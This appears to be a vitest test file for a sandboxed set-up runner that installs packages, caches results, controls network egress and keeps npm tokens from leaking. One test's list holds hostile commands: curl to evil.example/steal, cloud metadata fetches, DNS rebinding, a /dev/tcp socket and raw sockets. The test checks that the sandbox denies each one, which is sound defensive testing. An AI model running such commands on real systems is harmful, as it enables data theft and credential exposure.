/** The set-up on real parts: repository, workspace, sandbox, proxy, npm and a registry. Only the internet is ours. */
import { readdir, readFile, rm, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { expect, test } from "vitest";
import type { Journal, JournalEntry } from "../../src/journal.ts";
import { EgressLog } from "../../src/run/egress-log.ts";
import { planSetUp, setUpKey } from "../../src/run/set-up-plan.ts";
import { renderSetUp } from "../../src/publish/render-set-up.ts";
import { parseRepoSettings } from "../../src/run/repo-settings.ts";
import { bubblewrapSandbox } from "../../src/sandbox/bubblewrap.ts";
import { SANDBOX_LIMITS } from "../../src/sandbox/limits.ts";
import { Workspace } from "../../src/workspace/workspace.ts";
import { openInternet } from "../sandbox/internet.ts";
import { TOOLS } from "../sandbox/open-session.ts";
import { type Files } from "../workspace/repository.ts";
import { openRegistry, type RegistryOptions } from "./npm-registry.ts";
import { openPlace, type Choice } from "./set-up-place.ts";

const NPM = "registry.npmjs.org";
const never = new AbortController().signal;

/** A project with tiny packages, and the registry that has them. */
async function openNpm(
  options: Partial<RegistryOptions> = {},
  more: Parameters<typeof openPlace>[2] = {},
  extra: Files = {},
) {
  const registry = openRegistry({ count: 3, ...options });
  const internet = await openInternet({ [NPM]: [["104.16.1.34"]] }, registry.answer);
  const place = await openPlace(internet, [{ ...registry.files, ...extra }], more);
  return {
    ...{ registry, ...place },
    [Symbol.asyncDispose]: async () => {
      await place[Symbol.asyncDispose]();
      await internet[Symbol.asyncDispose]();
    },
  };
}

const finished = (entries: readonly JournalEntry[]) =>
  entries.flatMap((entry) =>
    entry.kind === "set-up-finished" ? [{ isCached: entry.isCached, exitCode: entry.command.exitCode }] : [],
  );
const egress = (entries: readonly JournalEntry[]) =>
  entries.flatMap((entry) => (entry.kind === "egress" ? [`${entry.verdict} ${entry.host}:${entry.port}`] : []));
const installed = ({ treeDir }: Workspace) => readFile(join(treeDir, "node_modules/tiny-1/index.js"), "utf8");

test("npm's packages are installed from the registry, and by the second run unpacked without it", async () => {
  await using place = await openNpm();
  const first = await place.run({ look: installed });
  expect(first.entries.at(-1)).toMatchObject({ command: { outputTail: expect.stringContaining("added 3 packages") } });
  expect(finished(first.entries)).toEqual([{ isCached: false, exitCode: 0 }]);
  expect(egress(first.entries)).toEqual([`allowed ${NPM}:443`]);
  expect(first.brief).toContain("npm ci --no-audit --no-fund");
  const asked = place.registry.asked.length;
  const second = await place.run({ look: installed });
  expect(finished(second.entries)).toEqual([{ isCached: true, exitCode: 0 }]);
  expect([first.seen, second.seen]).toEqual(new Array(2).fill('module.exports = "tiny-1";\n'));
  expect([first.changed, second.changed]).toEqual([[], []]);
  expect(place.registry.asked.length).toBe(asked);
});

test("the agent's commands use what was unpacked, as the user they run as", async () => {
  await using place = await openNpm();
  const look = async (workspace: Workspace) => {
    const opening = {
      workspaceDir: workspace.treeDir,
      owner: workspace.owner,
      readOnlyPaths: [],
      limits: SANDBOX_LIMITS,
    };
    await using session = await bubblewrapSandbox(TOOLS).open({ ...opening, isReadOnly: false });
    const script =
      "node -p 'require(\"tiny-2\")'; echo x >>node_modules/tiny-2/index.js && rm -r node_modules/tiny-1 && echo mine";
    const argv = ["bash", "-c", script];
    const { stdout } = await session.exec(
      { argv, cwd: "", stdin: "", timeoutMs: 30_000, outputBytesMax: 10_000 },
      never,
    );
    return stdout.toString();
  };
  expect([(await place.run({ look })).seen, (await place.run({ look })).seen]).toEqual([
    "tiny-2\nmine\n",
    "tiny-2\nmine\n",
  ]);
});

test("what a pull request set up is for that pull request alone", async () => {
  await using place = await openNpm();
  const kinds: unknown[] = [];
  for (const pull of [
    { number: 4, isFork: true },
    { number: 5, isFork: true },
    null,
    { number: 4, isFork: true },
    null,
  ]) {
    kinds.push(finished((await place.run({ pull })).entries)[0]?.isCached);
  }
  expect(kinds).toEqual([false, false, false, true, true]);
});

const evil = [
  "curl -s https://evil.example/steal",
  "curl -s http://169.254.169.254/latest/meta-data/",
  "curl -s https://rebound.example/; curl -s https://rebound.example/",
  "curl -s https://good.example:22/",
  "curl -s --globoff http://[fd00:ec2::254]/latest/",
  "(exec 3<>/dev/tcp/1.1.1.1/53) 2>/dev/null && echo out",
  "/usr/bin/python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)' 2>/dev/null && echo raw",
];

test("a set-up that tries other hosts, metadata, rebinding, raw sockets and port 22 reaches none, and is named with each", async () => {
  const reached: string[] = [];
  const names = { "evil.example": [["104.16.9.9"]], "good.example": [["104.16.9.8"]] };
  const addresses = { ...names, "rebound.example": [["104.16.9.7", "169.254.169.254"], ["127.0.0.1"]] };
  await using internet = await openInternet(addresses, (request, response) => {
    reached.push(request.headers.host ?? "");
    response.end("reached");
  });
  await using place = await openPlace(internet, [{ "a.txt": "a" }]);
  const lines = [...evil, "true"].map((line) => `  ${line}`).join("\n");
  const { entries } = await place.run({
    settings: `network: { setup: [good.example, rebound.example] }\nsetup: |\n  set +e\n${lines}\n`,
  });
  expect(reached).toEqual([]);
  expect(internet.dialled).toEqual([]);
  expect(entries.at(-1)).toMatchObject({
    kind: "set-up-finished",
    command: { exitCode: 0, outputTail: expect.not.stringMatching(/out|raw/) },
  });
  expect(egress(entries)).toEqual([
    "denied evil.example:443",
    "denied 169.254.169.254:80",
    "denied rebound.example:443",
    "denied rebound.example:443",
    "denied good.example:22",
    "denied [fd00:ec2::254]:80",
  ]);
  const told = renderSetUp(entries.map((entry, i) => ({ seq: i + 1, at: 0, entry })));
  expect(told).toContain("`network: { setup: [evil.example] }`");
});

test("a set-up that fails is told with its output, is not kept, and ends nothing", async () => {
  await using internet = await openInternet({ "x.example": [] }, () => {});
  await using place = await openPlace(internet, [{ "a.txt": "a" }]);
  for (const _attempt of [1, 2]) {
    const { entries, brief } = await place.run({ settings: 'setup: "echo went wrong; mkdir made; exit 9"' });
    expect(finished(entries)).toEqual([{ isCached: false, exitCode: 9 }]);
    expect(brief).toContain("It failed with exit 9.");
    expect(brief).toContain("went wrong");
  }
});

test("no lockfile and no command is no set-up, and an empty command turns off what a lockfile would do", async () => {
  await using place = await openNpm();
  const { entries, brief } = await place.run({ settings: 'setup: ""' });
  expect({ entries, brief }).toEqual({ entries: [], brief: "" });
});

test("a set-up leaves tracked files as they were and its own files out of the change, in both runs", async () => {
  await using internet = await openInternet({ "x.example": [] }, () => {});
  await using place = await openPlace(internet, [{ "a.txt": "a\n", "lib/b.txt": "b\n", "lib/c.txt": "c\n" }]);
  const script =
    "echo spoiled >a.txt; rm -r lib; mkdir -p lib out 'odd [name]*'; echo new >lib/new.txt; echo x >out/x; echo y >'odd [name]*/y'";
  const look = async ({ treeDir }: Workspace) => [
    (await readdir(treeDir)).sort().filter((name) => !name.startsWith(".") && name !== "ca.pem"),
    (await readdir(join(treeDir, "lib"))).sort(),
    await readFile(join(treeDir, "a.txt"), "utf8"),
  ];
  const settings = `setup: "${script}"`;
  const [first, second] = [await place.run({ settings, look }), await place.run({ settings, look })];
  expect(finished(second.entries)).toEqual([{ isCached: true, exitCode: 0 }]);
  const tree = [["a.txt", "lib", "odd [name]*", "out"], ["b.txt", "c.txt", "new.txt"], "a\n"];
  expect([first.seen, second.seen]).toEqual([tree, tree]);
  expect([first.changed, second.changed]).toEqual([[], []]);
});

test("another lockfile, script or file the script names is another set-up; another source file is not", async () => {
  await using internet = await openInternet({ "x.example": [] }, () => {});
  const base = { "requirements.txt": "", "scripts/set-up.sh": "echo 1", "a.txt": "a" };
  const trees = [
    base,
    { ...base, "a.txt": "b" },
    { ...base, "scripts/set-up.sh": "echo 2" },
    { ...base, "requirements.txt": "# x" },
  ];
  await using place = await openPlace(internet, trees);
  const isCached = async (choice: Choice) => finished((await place.run(choice)).entries)[0]?.isCached;
  const settings = 'setup: "sh ./scripts/set-up.sh >out"';
  const found = [];
  for (const commit of [0, 1, 2, 3, 0]) found.push(await isCached({ settings, commit }));
  found.push(await isCached({ settings: 'setup: "sh ./scripts/set-up.sh >out2"' }));
  expect(found).toEqual([false, true, false, false, true, false]);
});

test("a link is part of a set-up's name, so that nothing is unpacked through one where a folder was packed", async () => {
  const plan = planSetUp(await parseRepoSettings("setup: x"), []);
  const facts = { trust: "branch", repoId: 7, image: "", secretNames: [] };
  const key = (mode: string) => plan && setUpKey(plan, { ...facts, entries: [{ path: "lib", mode, id: "1" }] });
  expect(key("120000")).not.toBe(key("100644"));
});

const detected: readonly (readonly [files: string, title: string, hosts: string])[] = [
  ["package-lock.json README.md", "npm ci --no-audit --no-fund", "registry.npmjs.org"],
  ["package-lock.json pnpm-lock.yaml", "pnpm install --frozen-lockfile", "registry.npmjs.org"],
  [
    "yarn.lock",
    "yarn install --frozen-lockfile --non-interactive",
    "registry.npmjs.org registry.yarnpkg.com repo.yarnpkg.com",
  ],
  ["yarn.lock .yarnrc.yml", "yarn install --immutable", "registry.npmjs.org registry.yarnpkg.com repo.yarnpkg.com"],
  ["uv.lock requirements.txt", "uv sync --frozen", "pypi.org files.pythonhosted.org"],
  [
    "requirements.txt",
    "python3 -m venv .venv && .venv/bin/pip install --disable-pip-version-check --no-input -r requirements.txt",
    "pypi.org files.pythonhosted.org",
  ],
  ["Cargo.lock", "cargo fetch --locked", "index.crates.io static.crates.io crates.io"],
  ["go.sum go.mod", "go mod download", "proxy.golang.org sum.golang.org"],
  ["pom.xml", "mvn --batch-mode --quiet dependency:go-offline", "repo.maven.apache.org"],
  [
    "go.sum package-lock.json",
    "npm ci --no-audit --no-fund; go mod download",
    "registry.npmjs.org proxy.golang.org sum.golang.org",
  ],
];

test.each(detected)("%s asks for: %s", async (files, title, hosts) => {
  const plan = planSetUp(await parseRepoSettings(""), files.split(" "));
  expect({ title: plan?.title, hosts: plan?.hosts.join(" ") }).toEqual({ title, hosts });
});

test("a repository adds hosts to the found registries, or turns them off, and its command replaces the found ones", async () => {
  const planned = async (settings: string) => {
    const plan = planSetUp(await parseRepoSettings(settings), ["package-lock.json"]);
    return `${plan?.title} | ${plan?.hosts.join(" ")}`;
  };
  expect(await planned("network: { setup: [a.example, '*.b.example'] }")).toBe(
    "npm ci --no-audit --no-fund | a.example *.b.example registry.npmjs.org",
  );
  expect(await planned("setup: make deps\nnetwork: { setup: [a.example], registries: false }")).toBe(
    "make deps | a.example",
  );
});

test.each([
  "10.0.0.1",
  "localhost",
  "*.com",
  "*",
  "https://a.example",
  "a.example:443",
  "a.example/x",
  "A.example",
  "[::1]",
])("%s cannot be put on a list of hosts", async (host) => {
  await expect(parseRepoSettings(`network: { setup: ["${host}"] }`)).rejects.toThrow("must be a host's name");
});

test("a hostile set-up's wishes are told once each, and only so many", async () => {
  const { entries, journal } = openMemory();
  const log = new EgressLog(journal, "set-up");
  const wish = (host: string) => ({ verdict: "denied", host, port: 443, why: "not on the list" }) as const;
  for (let i = 0; i < 1000; i++) log.take(wish(`h${i >> 1}.example`));
  await log.written();
  expect(entries).toHaveLength(101);
  expect(entries[1]).toEqual({ kind: "egress", phase: "set-up", ...wish("h1.example") });
  expect(entries.at(-1)).toMatchObject({ host: "*", why: "more than 100 kinds" });
});

function openMemory(): { readonly entries: JournalEntry[]; readonly journal: Journal } {
  const entries: JournalEntry[] = [];
  return { entries, journal: { append: async (entry) => void entries.push(entry), read: async () => [] } };
}

const TOKEN = "npm_0123456789abcdefghijklmnop";
const tokenFile = { ".npmrc": "cafile=ca.pem\n//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n" };

test("a secret of the set-up serves the set-up and is gone after it", async () => {
  await using place = await openNpm({ token: TOKEN }, { secrets: { NPM_TOKEN: TOKEN } }, tokenFile);
  const settings = [
    "setup: |",
    "  npm ci --no-audit --no-fund",
    '  echo "token: $NPM_TOKEN"',
    '  mkdir -p hidden .git/x; echo "$NPM_TOKEN" >hidden/token; echo "a $NPM_TOKEN b" >.git/x/token; chmod 0 hidden/token',
    '  echo "$NPM_TOKEN" >package.json',
  ].join("\n");
  const look = async (workspace: Workspace) => {
    const opening = {
      workspaceDir: workspace.treeDir,
      owner: workspace.owner,
      readOnlyPaths: [],
      limits: SANDBOX_LIMITS,
    };
    await using session = await bubblewrapSandbox(TOOLS).open({ ...opening, isReadOnly: false });
    const argv = ["bash", "-c", `env; cat hidden/token .git/x/token; grep -rF ${TOKEN} .`];
    const { stdout } = await session.exec(
      { argv, cwd: "", stdin: "", timeoutMs: 30_000, outputBytesMax: 100_000 },
      never,
    );
    return stdout.toString();
  };
  const ran = await place.run({ settings, look });
  expect([...place.registry.authorizations]).toEqual([`Bearer ${TOKEN}`]);
  expect(finished(ran.entries)).toEqual([{ isCached: false, exitCode: 0 }]);
  expect(JSON.stringify(ran)).not.toContain(TOKEN);
  // What held it was not kept for a later run either.
  expect(await readdir(place.cacheDir).catch(() => [])).toEqual([]);
});

test("a set-up that keeps no secret is kept, and under a name without it", async () => {
  await using place = await openNpm({ token: TOKEN }, { secrets: { NPM_TOKEN: TOKEN } }, tokenFile);
  await place.run();
  const names = (await readdir(place.cacheDir)).sort();
  expect(names).toEqual([expect.stringMatching(/^[0-9a-f]{64}\.spare$/), expect.stringMatching(/^[0-9a-f]{64}\.tar$/)]);
  const [, name = ""] = names;
  expect((await readFile(join(place.cacheDir, name))).includes(TOKEN)).toBe(false);
  expect(finished((await place.run()).entries)).toEqual([{ isCached: true, exitCode: 0 }]);
});

test("a fork's set-up gets no secret", async () => {
  await using place = await openNpm({}, { secrets: { NPM_TOKEN: TOKEN } });
  const settings = 'setup: "echo have ${NPM_TOKEN:-nothing}"';
  const told = async (isFork: boolean) => {
    const { entries } = await place.run({ settings, pull: { number: 3, isFork } });
    return entries.flatMap((entry) => (entry.kind === "set-up-finished" ? [entry.command.outputTail] : []));
  };
  expect(await told(true)).toEqual(["have nothing\n"]);
  expect(await told(false)).not.toEqual(["have nothing\n"]);
});

test("an archive that was spoiled on the disk is thrown away, and the set-up runs", async () => {
  await using place = await openNpm();
  await place.run();
  for (const name of await readdir(place.cacheDir)) {
    await rm(join(place.cacheDir, name), { recursive: true });
    if (name.endsWith(".tar")) await writeFile(join(place.cacheDir, name), "no archive at all");
  }
  expect(finished((await place.run({ look: installed })).entries)).toEqual([{ isCached: false, exitCode: 0 }]);
});
